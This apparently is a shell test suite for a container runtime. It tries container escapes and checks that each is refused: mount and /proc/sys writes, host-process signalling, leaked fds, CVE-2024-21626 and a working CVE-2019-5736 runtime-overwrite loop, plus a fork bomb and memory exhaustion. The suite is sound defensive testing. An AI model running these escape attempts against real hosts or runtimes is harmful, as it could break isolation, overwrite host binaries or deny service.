#!/bin/sh
# Escape attempts from inside a container made from the runtime's default
# config (`spec`, plus pids/memory limits): each must be refused. The host
# side checks that nothing changed.
. "$(dirname "$0")/lib.sh"

mkdir -p "$WORK/shared"
chmod 777 "$WORK/shared"
# Default config + a writable exchange directory + limits.
dflt='.mounts += [{"destination":"/shared","type":"bind","source":$sh,"options":["rbind","rw"]}]
 | .linux.resources.pids = {"limit": 64}
 | .linux.resources.memory = {"limit": 67108864, "swap": 67108864}'

# sec NAME SCRIPT: runs SCRIPT in a default container, output in $WORK/NAME.out
sec() {
	run_c "$1" ".process.args = [\"sh\",\"-c\",\$s] | $dflt" --arg s "$2" --arg sh "$WORK/shared"
}

# --- mount a filesystem ---
sec mnt 'mount -t tmpfs none /mnt 2>/dev/null && echo mounted || echo refused
	mount -t proc proc /mnt 2>/dev/null && echo mounted || echo refused
	mount --bind / /mnt 2>/dev/null && echo mounted || echo refused
	umount /proc 2>/dev/null && echo unmounted || echo refused'
expect_eq "mount tmpfs/proc/bind and umount refused" "refused refused refused refused" "$(out mnt | tr '\n' ' ' | sed 's/ $//')"

# --- reach a host process ---
sleep 300 &
victim=$!
sec hostpid "kill -0 $victim 2>/dev/null && echo visible || echo invisible
	kill -9 $victim 2>/dev/null && echo killed || echo refused
	test -e /proc/$victim && echo proc-visible || echo proc-invisible
	ls /proc | grep -c '^[0-9]'"
o=$(out hostpid)
expect_eq "a host pid cannot be signalled" "invisible refused proc-invisible" "$(printf '%s\n' "$o" | head -n3 | tr '\n' ' ' | sed 's/ $//')"
check "the host process survived" kill -0 "$victim"
check "only the container's processes are visible (<= 3)" test "$(printf '%s\n' "$o" | sed -n 4p)" -le 3
kill "$victim" 2>/dev/null
wait "$victim" 2>/dev/null
# ptrace needs CAP_SYS_PTRACE, which the default set lacks; check the set.
sec ptrace 'grep CapEff /proc/self/status'
capeff=$(out ptrace | awk '{print $2}')
check "CAP_SYS_PTRACE (19), CAP_SYS_ADMIN (21), CAP_SYS_MODULE (16) not effective ($capeff)" \
	test $(((0x$capeff >> 19) & 1))$(((0x$capeff >> 21) & 1))$(((0x$capeff >> 16) & 1)) = 000

# --- /proc/sys, /proc/kcore, /sys ---
host_core=$(cat /proc/sys/kernel/core_pattern)
sec procsys 'echo "|/shared/pwn" >/proc/sys/kernel/core_pattern 2>/dev/null && echo written || echo refused
	echo 1 >/proc/sysrq-trigger 2>/dev/null && echo written || echo refused
	echo 3 >/proc/sys/vm/drop_caches 2>/dev/null && echo written || echo refused'
expect_eq "writes to /proc/sys and /proc/sysrq-trigger refused" "refused refused refused" "$(out procsys | tr '\n' ' ' | sed 's/ $//')"
expect_eq "host core_pattern unchanged" "$host_core" "$(cat /proc/sys/kernel/core_pattern)"
sec kcore 'for f in /proc/kcore /proc/keys /proc/timer_list; do n=$(head -c 64 $f 2>/dev/null | wc -c); echo $n; done'
expect_eq "/proc/kcore, /proc/keys, /proc/timer_list give nothing" "0 0 0" "$(out kcore | tr '\n' ' ' | sed 's/ $//')"
sec sys 'echo 1 >/sys/kernel/mm/ksm/run 2>/dev/null && echo written || echo refused
	echo x >/sys/fs/cgroup/pids/pids.max 2>/dev/null && echo written || echo refused
	mkdir /sys/fs/cgroup/memory/escape 2>/dev/null && echo made || echo refused
	echo 1 >/sys/fs/cgroup/memory/memory.limit_in_bytes 2>/dev/null && echo written || echo refused'
expect_eq "writes to /sys and the cgroup tree refused" "refused refused refused refused" "$(out sys | tr '\n' ' ' | sed 's/ $//')"
check "no cgroup made by the container" test ! -e /sys/fs/cgroup/memory/escape
sec devs 'mknod /shared/sda b 8 0 2>/dev/null && echo made || echo refused
	ls /dev | grep -Ec "^(sd|vd|nvme|mem|kmem|port)" '
expect_eq "mknod refused and no raw devices in /dev" "refused 0" "$(out devs | tr '\n' ' ' | sed 's/ $//')"

# --- a leaked fd from the runtime ---
exec 9>>"$WORK/host-secret"
exec 6<"$SRC_ROOT"
sec fdleak 'ls /proc/$$/fd; echo pwn >&9 2>/dev/null && echo wrote-9; ls /proc/self/fd/6/ 2>/dev/null | head -1; true'
exec 9>&- 6<&-
expect_eq "only fds 0 1 2 in the container, 9 and 6 unusable" "0 1 2" "$(out fdleak | tr '\n' ' ' | sed 's/ $//')"
check "the host file was not written through a leaked fd" test ! -s "$WORK/host-secret"
sec cwdleak 'ls /proc/self/cwd/.. >/dev/null; cd /proc/self/cwd/../../../.. && ls | grep -c vessel-oci; true'
expect_eq "no way out through the cwd (CVE-2024-21626)" 0 "$(out cwdleak | tail -n1)"

# --- CVE-2019-5736: overwrite the runtime through /proc/<pid>/exe ---
# A copy of the runtime (so a vulnerable runtime only damages the copy) is
# used for `exec` while the container tries, for every process it can see,
# to open /proc/<pid>/exe and write through it (directly and by re-opening
# /proc/self/fd/N for writing after the runtime has exited).
mkdir -p "$WORK/rtcopy"
real=$(readlink -f "$RUNTIME")
cp "$real" "$WORK/rtcopy/$(basename "$real")"
[ "$(basename "$RUNTIME")" != "$(basename "$real")" ] &&
	ln -s "$(basename "$real")" "$WORK/rtcopy/$(basename "$RUNTIME")"
RTC=$WORK/rtcopy/$(basename "$RUNTIME")
sum0=$(sha256sum "$WORK/rtcopy/$(basename "$real")" | cut -d' ' -f1)
id=$(cid cve)
# The exec target is a script whose interpreter is /proc/self/exe (the
# original exploit): the kernel then runs, inside the container, whatever
# binary the runtime's exec stage runs from. The attacker holds
# /proc/<pid>/exe of every non-busybox process it sees and keeps trying to
# write through /proc/self/fd/3 after that process has exited. (A runtime
# that is protected makes its exec stage non-dumpable, so its exe link is
# unreadable, and runs from a sealed copy, so the #! interpreter is absent.)
printf '#!/proc/self/exe\n' >"$WORK/shared/evil"
chmod 755 "$WORK/shared/evil"
start_bg cve 'while :; do
	for d in /proc/[0-9]*; do
		p=${d#/proc/}
		[ "$p" = $$ ] && continue
		grep -qx "$p" /shared/tried 2>/dev/null && continue
		t=$(readlink $d/exe 2>/dev/null) || t="(exe link unreadable)"
		case "$t" in /bin/busybox*) continue ;; esac
		echo "$p" >>/shared/tried
		echo "saw $p $t" >>/shared/seen
		( exec 3<"$d/exe" || exit 0
		  i=0
		  while [ $i -lt 60 ]; do
			echo PWNED 2>/dev/null >>/proc/self/fd/3 && { echo "wrote $t" >>/shared/pwned; exit 0; }
			sleep 0.05; i=$((i + 1))
		  done ) 2>/dev/null &
		echo PWNED 2>/dev/null >>"$d/exe" && echo "wrote-direct $t" >>/shared/pwned
	done
done' "$dflt | .linux.resources.pids.limit = 512" --arg sh "$WORK/shared" >/dev/null
sleep 0.3
n_ok=0
i=0
while [ $i -lt 10 ]; do
	timeout 20 "$RTC" --root "$ROOT" exec "$id" true </dev/null >/dev/null 2>&1 && n_ok=$((n_ok + 1))
	timeout 20 "$RTC" --root "$ROOT" exec "$id" /shared/evil </dev/null >/dev/null 2>&1
	i=$((i + 1))
done
sleep 3.5
rt delete -f "$id" >/dev/null 2>&1
check "exec kept working during the attack ($n_ok/10)" test "$n_ok" -ge 7
expect_eq "the container never wrote through /proc/<pid>/exe" "" "$(cat "$WORK/shared/pwned" 2>/dev/null)"
expect_eq "the runtime binary is unchanged" "$sum0" "$(sha256sum "$WORK/rtcopy/$(basename "$real")" | cut -d' ' -f1)"
echo "# binaries the container saw during exec: $(cut -d' ' -f3- "$WORK/shared/seen" 2>/dev/null | sort -u | tr '\n' ';')"

# --- pids and memory limits ---
id=$(cid bomb)
start_bg bomb 'f() { f & f & wait; }; f' "$dflt" --arg sh "$WORK/shared" >/dev/null
sleep 2
n=$(wc -l <"$(cg_dir pids bomb)/cgroup.procs" 2>/dev/null)
check "fork bomb held under the pids limit of 64 ($n processes)" test "${n:-999}" -le 64
check "the host can still fork" /bin/true
check "the fork bomb is removed by delete --force" rt delete -f "$id"
sec mem 'dd if=/dev/zero of=/dev/null bs=128M count=1 2>/dev/null; echo rc=$?'
expect_eq "allocating 128 MiB under a 64 MiB limit is killed" rc=137 "$(out mem)"
sec memtmp 'mount -t tmpfs -o size=1g none /mnt 2>/dev/null; dd if=/dev/zero of=/dev/shm/fill bs=1M count=200 2>/dev/null; echo rc=$?'
check "filling /dev/shm past the limit fails" test "$(out memtmp)" != rc=0

finish
